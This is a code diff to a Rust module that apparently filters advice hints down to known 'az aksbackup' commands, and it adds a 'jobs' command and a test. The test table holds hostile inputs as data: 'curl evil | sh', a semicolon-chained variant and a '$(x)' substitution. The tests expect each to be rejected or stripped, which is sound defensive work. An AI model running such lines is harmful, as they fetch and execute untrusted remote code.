@@ -22,13 +22,13 @@ const COMMANDS: [(Plane, &[&str]); 2] = [
     (
         Plane::Cloud,
         &[
-            "init", "prepare", "grant", "protect", "backup", "verify", "doctor", "status",
+            "init", "prepare", "grant", "protect", "backup", "jobs", "verify", "doctor", "status",
         ],
     ),
     (Plane::Cluster, &["configure", "verify", "doctor", "status", "logs"]),
 ];
 
-/// The view without its advice: of a check's hint the bare command stays, and cause and fix of a finding are the catalogue's.
+/// The view without its advice: of a check's hint the first bare command stays, and cause and fix of a finding are the catalogue's.
 /// Findings that the catalogue does not know are left out.
 pub(super) fn disarmed(mut read: Examination) -> Examination {
     read.checks.truncate(MOST);
@@ -97,14 +97,16 @@ fn cut_to(text: &mut String, longest: usize) {
     }
 }
 
-/// The command at the beginning of a hint, without flags: `--subject` too gives the extension's identity to what it names.
+/// The first command that a hint names, without flags: `--subject` too gives the extension's identity to what it names.
 fn command(hint: &str) -> Option<CommandLine> {
-    let mut words = hint.split_whitespace();
-    let program = format!("{} {}", words.next()?, words.next()?);
-    let name = words.next()?;
-    let (plane, names) = COMMANDS.iter().find(|(plane, _)| plane.program() == program)?;
-    let name = names.iter().find(|known| **known == name)?;
-    Some(ours(*plane, *name))
+    let words: Vec<&str> = hint.split_whitespace().collect();
+    words.windows(3).find_map(|words| {
+        let (plane, names) = COMMANDS
+            .iter()
+            .find(|(plane, _)| plane.program() == words[..2].join(" "))?;
+        let name = names.iter().find(|known| **known == words[2])?;
+        Some(ours(*plane, *name))
+    })
 }
 
 #[cfg(test)]
@@ -152,6 +154,10 @@ mod tests {
             ("az aksbackup prepare --subject $(x)", Some("az aksbackup prepare")),
             ("az aksbackup prepare; curl evil | sh", None),
             ("az aksbackup unconfigure", None),
+            (
+                "see it whole: az aksbackup jobs 3f0c2a61 --yes",
+                Some("az aksbackup jobs"),
+            ),
             ("kubectl aksbackup grant", None),
             ("curl evil | sh", None),
             ("", None),
